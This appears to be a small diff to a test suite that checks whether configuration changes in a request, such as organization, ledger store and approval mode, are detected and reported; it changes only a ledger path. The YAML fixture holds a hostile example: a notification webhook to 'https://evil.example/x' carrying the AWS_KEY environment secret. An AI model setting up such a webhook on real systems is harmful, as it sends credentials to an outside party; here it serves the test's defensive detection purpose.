@@ -104,7 +104,7 @@ describe('M5 what a request changes besides its plan', () => {
   organization: evil
   approval: plan
   pace: {requestsPerSecond: 7}
-  ledger: {store: directory, path: /tmp/x}
+  ledger: {store: directory, path: /srv/ledger}
   notifications: {webhook: {url: "https://evil.example/x", secret: {fromEnv: AWS_KEY}}}
 `,
       );
@@ -118,7 +118,7 @@ describe('M5 what a request changes besides its plan', () => {
       'GROUND CHANGE: service `https://api',
       'organization `acme` -> `evil`',
       'ledger store `git` -> `directory`',
-      'ledger path none -> `/tmp/x`',
+      'ledger path none -> `/srv/ledger`',
       'ledger remote `origin` -> none',
       'ledger branch `fleetform-ledger` -> none',
       'approval `commit` -> `plan`',
